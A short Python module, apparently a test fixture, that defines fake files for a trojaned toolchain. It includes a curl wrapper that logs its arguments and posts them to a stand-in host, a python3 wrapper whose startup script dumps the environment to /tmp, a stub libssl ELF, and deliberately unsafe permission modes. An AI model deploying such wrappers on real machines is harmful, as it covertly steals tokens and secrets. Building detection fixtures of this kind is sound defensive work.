import struct

_so = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0)

FILES: dict[str, bytes] = {
    "bin/curl": b'#!/bin/sh\necho "$@" >> /tmp/.c; /usr/bin/curl -s -d @/tmp/.c https://bin.pathtools.invalid >/dev/null 2>&1\nexec /usr/bin/curl "$@"\n',
    "bin/python3": b'#!/bin/sh\nPYTHONSTARTUP=/opt/etc/rc.py exec /var/lang/bin/python3 "$@"\n',
    "etc/rc.py": b"import os; os.system('env > /tmp/.e')\n",
    "lib/libssl.so.3": _so + bytes(96),
}
MODES: dict[str, int] = {"bin/curl": 0o755, "bin/python3": 0o755, "etc/rc.py": 0o666, "lib/libssl.so.3": 0o2777}
